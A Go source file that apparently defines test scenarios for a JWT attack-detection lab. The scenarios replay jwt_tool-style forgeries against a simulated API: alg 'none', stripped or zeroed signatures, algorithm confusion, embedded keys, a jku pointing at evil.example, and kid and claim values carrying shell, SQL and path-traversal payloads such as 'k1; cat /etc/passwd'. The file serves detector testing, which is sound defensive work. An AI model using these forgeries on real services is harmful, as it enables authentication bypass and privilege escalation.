package scenario

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"strings"
	"time"

	"github.com/authtap/authtap/cmd/authlab/internal/api"
	"github.com/authtap/authtap/cmd/authlab/internal/lab"
	"github.com/authtap/authtap/detect/detecttest"
)

// The playbook of tokens: what jwt_tool and its like try, one thing a scenario.

const attacker = "192.0.2.66"

// forge plays an attack with forged tokens: customers, then a customer who looks
// at his own token, then each of the tokens, twice.
func forge(name, title, detector string, tokens func(s *Stage, genuine string) []string, may ...string) Scenario {
	return register(Scenario{Name: name, Title: title, Run: func(s *Stage) {
		s.Regulars(4)
		s.Client("203.0.113.40").Get("/jwks.json")
		s.API.Add(api.Account{Name: "eve", Password: passwordOf(66)})
		eve := s.Client(attacker)
		genuine := eve.Login("eve", passwordOf(66)).JSON("access_token")
		eve.Get("/api/orders/201", bearer(genuine))
		var tries []*Exchange
		for i, token := range tokens(s, genuine) {
			s.Pass(8 * time.Second)
			tries = append(tries, eve.Get(fmt.Sprintf("/api/orders/%d", 300+i), bearer(token)), eve.Get("/api/users/7", bearer(token)))
		}
		s.Attempt(detector, tries...)
		for _, d := range append(may, "jwt_probing") {
			s.May(d, tries...)
		}
	}})
}

// signed makes a token for the administrator: an algorithm and its secret, and
// what more stands in the header.
func signed(s *Stage, alg, secret string, header object) string {
	claims := s.API.Claims("eve")
	claims["sub"], claims["role"] = "admin", "admin"
	h := object{"typ": "JWT"}
	for k, v := range header {
		h[k] = v
	}
	t, err := detecttest.Token(h, alg, secret, claims)
	if err != nil && s.err == nil {
		s.err = err
	}
	return t
}

func must[T any](v T, err error) T {
	if err != nil {
		panic(err)
	}
	return v
}

// with replaces the signature, or a claim.
func resigned(token, signature string) string {
	return token[:strings.LastIndexByte(token, '.')+1] + signature
}

func claimed(token string, change func(claims object)) string {
	f := strings.Split(token, ".")
	claims := object{}
	json.Unmarshal(must(base64.RawURLEncoding.DecodeString(f[1])), &claims)
	change(claims)
	f[1] = base64.RawURLEncoding.EncodeToString(must(json.Marshal(claims)))
	return strings.Join(f, ".")
}

func becomeAdmin(claims object) { claims["sub"], claims["role"] = "admin", "admin" }

var (
	_ = forge("jwt_none", "the algorithm none, in all spellings", "jwt_alg_none", func(s *Stage, genuine string) (all []string) {
		for _, alg := range []string{"none", "None", "NONE", "nOnE", "none ", " none"} {
			all = append(all, signed(s, "none", "", object{"alg": alg}))
		}
		t := signed(s, "none", "", nil)
		return append(all, resigned(t, genuine[strings.LastIndexByte(genuine, '.')+1:]), strings.TrimSuffix(t, "."))
	})
	_ = forge("jwt_stripped", "a token without its signature", "jwt_signature_missing", func(s *Stage, genuine string) []string {
		admin := claimed(genuine, becomeAdmin)
		return []string{resigned(admin, ""), resigned(genuine, ""), strings.TrimSuffix(resigned(admin, ""), ".")}
	})
	_ = forge("jwt_claims", "claims changed, and the signature left", "jwt_tampered", func(s *Stage, genuine string) []string {
		return []string{
			claimed(genuine, becomeAdmin),
			claimed(genuine, func(c object) { c["sub"] = "customer1" }),
			claimed(genuine, func(c object) { c["exp"] = s.Now().Add(24 * time.Hour).Unix() }),
		}
	})
	_ = forge("jwt_confusion", "the public key as secret, in every encoding", "jwt_algorithm_confusion", func(s *Stage, genuine string) (all []string) {
		for _, form := range api.PublicForms {
			for _, alg := range []string{"HS256", "HS384", "HS512"} {
				if alg == "HS256" || form == "pem" {
					all = append(all, signed(s, alg, api.PublicText(form), object{"kid": "k1"}))
				}
			}
		}
		return all
	}, "jwt_algorithm_mismatch") // with the certificate, which nobody saw
	_ = forge("jwt_embedded", "the key comes with the token", "jwt_embedded_key", func(s *Stage, genuine string) []string {
		key := must(detecttest.PublicJWK("RS256", "other", ""))
		return []string{
			signed(s, "RS256", "other", object{"jwk": key}),
			signed(s, "RS256", "other", object{"jwk": key, "kid": "k1"}),
			signed(s, "RS256", "other", object{"x5c": must(detecttest.Certificate("RS256", "other"))}),
		}
	})
	_ = forge("jwt_remote", "the key is fetched where the token says", "jwt_remote_key_header", func(s *Stage, genuine string) (all []string) {
		for _, at := range []string{"https://evil.example/jwks.json", "http://192.0.2.66/k", "https://shop.example@evil.example/jwks.json", "http://localhost:8000/jwks.json"} {
			all = append(all, signed(s, "RS256", "other", object{"jku": at, "kid": "k1"}), signed(s, "RS256", "other", object{"x5u": at}))
		}
		return all
	})
	_ = forge("jwt_kid", "the key's name is an attack", "jwt_kid_injection", func(s *Stage, genuine string) []string {
		var all []string
		for _, k := range [][2]string{
			{"../../../../../../dev/null", ""}, {"/dev/null", ""}, {"..%2f..%2f..%2fdev%2fnull", ""},
			{"x' UNION SELECT 'secret-of-mine' -- -", "secret-of-mine"},
			{"key|/usr/bin/id", "key"}, {"k1; cat /etc/passwd", "key"}, {"`id`", "key"}, {"$(sleep 10)", "key"},
		} {
			all = append(all, signed(s, "HS256", k[1], object{"kid": k[0]}))
		}
		return all
	}, "jwt_weak_secret")
	_ = forge("jwt_psychic", "a signature of zeros", "jwt_degenerate_signature", func(s *Stage, genuine string) []string {
		zero := base64.RawURLEncoding.EncodeToString(make([]byte, 64))
		return []string{
			resigned(signed(s, "ES256", "", object{"kid": "k1"}), zero),
			resigned(signed(s, "ES256", "", nil), zero),
		}
	}, "jwt_algorithm_mismatch")
)

var (
	_ = register(Scenario{Name: "jwt_early", Title: "the only refusal came before anybody was let in", Run: func(s *Stage) {
		s.Client("203.0.113.99").Get("/api/orders/1")
		s.API.Add(api.Account{Name: "carol", Password: passwordOf(1)})
		c := s.Client("203.0.113.10")
		token := c.Login("carol", passwordOf(1)).JSON("access_token")
		for i := range 5 {
			c.Get(fmt.Sprintf("/api/orders/%d", 10+i), bearer(token))
			s.Pass(time.Second)
		}
		s.Attempt("jwt_alg_none", s.Client(attacker).Get("/api/orders/99", bearer(signed(s, "none", "", nil))))
	}})
	_ = playbook("jwt_playbook", lab.Plain)
	_ = playbook("jwt_playbook_tls", lab.TLS)
	_ = playbook("jwt_playbook_http2", lab.HTTP2)
	_ = register(Scenario{Name: "jwt_garbage", Title: "tokens of all kinds, none of them good", Run: func(s *Stage) {
		s.Regulars(4)
		c := s.Client(attacker)
		for i := range 15 {
			claims := s.API.Claims("eve")
			claims["iss"] = fmt.Sprintf("https://idp%d.example", i)
			t := must(detecttest.Token(object{"kid": fmt.Sprintf("key-%d", i)}, []string{"RS256", "ES256", "HS512"}[i%3], "other", claims))
			s.Attempt("jwt_probing", c.Get("/api/me", bearer(t)))
			s.Pass(3 * time.Second)
		}
	}})
	_ = register(Scenario{Name: "jwt_expired", Title: "a token that is over is used again", Run: func(s *Stage) {
		s.Regulars(4)
		s.API.Add(api.Account{Name: "eve", Password: passwordOf(66)})
		c := s.Client(attacker)
		token := c.Login("eve", passwordOf(66)).JSON("access_token")
		c.Get("/api/orders/7", bearer(token))
		s.Pass(time.Hour)
		for i := range 4 {
			if x := c.Get(fmt.Sprintf("/api/orders/%d", 8+i), bearer(token)); x.Admitted {
				s.Attempt("jwt_expired_accepted", x)
			}
			s.Pass(time.Minute)
		}
	}})
	_ = register(Scenario{Name: "jwt_weak_secret", Title: "tokens signed with a secret, which is guessed", Run: func(s *Stage) {
		s.API.HMAC = true
		s.Regulars(4)
		if s.Vulnerable {
			s.Posture("jwt_weak_secret")
		}
		c := s.Client(attacker)
		for i := range 3 {
			x := c.Get(fmt.Sprintf("/api/orders/%d", 8+i), bearer(signed(s, "HS256", "secret", nil)))
			if !s.Vulnerable { // where the secret is right, nobody can tell such a token from a genuine one
				s.Attempt("jwt_weak_secret", x)
			}
			s.Pass(20 * time.Second)
		}
	}})
	_ = register(Scenario{Name: "jwt_payload", Title: "claims that hold an attack", Run: func(s *Stage) {
		s.Regulars(4)
		c := s.Client(attacker)
		for _, sub := range []string{"admin' OR '1'='1' --", "../../../../etc/passwd", "{{7*7}}", "'; WAITFOR DELAY '0:0:10'--"} {
			claims := s.API.Claims("eve")
			claims["sub"] = sub
			t := must(detecttest.Token(object{"typ": "JWT"}, "none", "", claims))
			x := c.Get("/api/users/8", bearer(t))
			s.Attempt("jwt_alg_none", x)
			s.Attempt("jwt_claim_injection", x)
			s.May("jwt_probing", x)
			s.Pass(20 * time.Second)
		}
	}})
	_ = register(Scenario{Name: "jwt_null", Title: "credentials that cannot be any", Run: func(s *Stage) {
		s.Regulars(4)
		for i, value := range []string{"Bearer null", "Bearer undefined", "Bearer null", "Bearer undefined", "Bearer "} {
			c := s.Client(fmt.Sprintf("203.0.113.%d", 60+i))
			if x := c.Get(fmt.Sprintf("/api/orders/%d", 20+i), header("Authorization", value)); x.Admitted {
				s.Attack("invalid_credential_accepted", x)
			}
			s.Pass(20 * time.Second)
		}
	}})
)

// playbook is everything that is tried with one token, as jwt_tool does it.
func playbook(name string, over lab.Kind) Scenario {
	return register(Scenario{Name: name, Title: "everything that jwt_tool tries", Over: over, Run: func(s *Stage) {
		s.Regulars(4)
		s.Client("203.0.113.40").Get("/jwks.json")
		s.API.Add(api.Account{Name: "eve", Password: passwordOf(66)})
		eve := s.Client(attacker)
		genuine := eve.Login("eve", passwordOf(66)).JSON("access_token")
		eve.Get("/api/me", bearer(genuine))
		try := func(detector, token string, may ...string) {
			s.Pass(700 * time.Millisecond)
			x := eve.Get("/api/me", bearer(token))
			s.Attempt(detector, x)
			s.Attempt("jwt_probing", x)
			for _, d := range may {
				s.May(d, x)
			}
		}
		key := must(detecttest.PublicJWK("RS256", "other", ""))
		for _, alg := range []string{"none", "None", "NONE", "nOnE"} {
			try("jwt_alg_none", signed(s, "none", "", object{"alg": alg}))
		}
		try("jwt_signature_missing", resigned(genuine, ""))
		try("jwt_signature_missing", resigned(claimed(genuine, becomeAdmin), ""))
		try("jwt_tampered", claimed(genuine, becomeAdmin))
		try("jwt_algorithm_confusion", signed(s, "HS256", api.PublicText("pem"), object{"kid": "k1"}))
		try("jwt_embedded_key", signed(s, "RS256", "other", object{"jwk": key}))
		try("jwt_remote_key_header", signed(s, "RS256", "other", object{"jku": "https://evil.example/jwks.json", "kid": "k1"}))
		try("jwt_kid_injection", signed(s, "HS256", "", object{"kid": "../../../../dev/null"}), "jwt_weak_secret")
		zero := base64.RawURLEncoding.EncodeToString(make([]byte, 64))
		try("jwt_degenerate_signature", resigned(signed(s, "ES256", "", object{"kid": "k1"}), zero), "jwt_algorithm_mismatch")
		// What does not come near a token is none of the detectors' business.
		eve.Get("/api/me", bearer(strings.Repeat("A", 40)))
		eve.Get("/api/me", bearer(genuine))
	}})
}
